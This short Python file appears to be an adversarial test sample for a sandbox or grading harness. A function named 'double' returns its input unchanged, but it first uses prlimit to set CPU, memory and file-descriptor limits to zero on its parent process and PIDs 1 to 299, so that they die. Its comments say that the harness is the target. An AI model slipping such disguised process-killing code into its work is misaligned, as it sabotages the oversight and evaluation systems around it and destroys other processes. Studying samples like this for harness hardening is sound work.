"""Lowers the limits of the processes around it with prlimit, so that they die of them."""
# bites: death
# control: no the process around it there is the harness itself, which needs no more of these
import os
import resource


def double(x):
    for process in (os.getppid(), *range(1, 300)):
        if process == os.getpid():
            continue
        for kind in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(process, kind, (0, 0))
            except OSError:
                pass
    return x
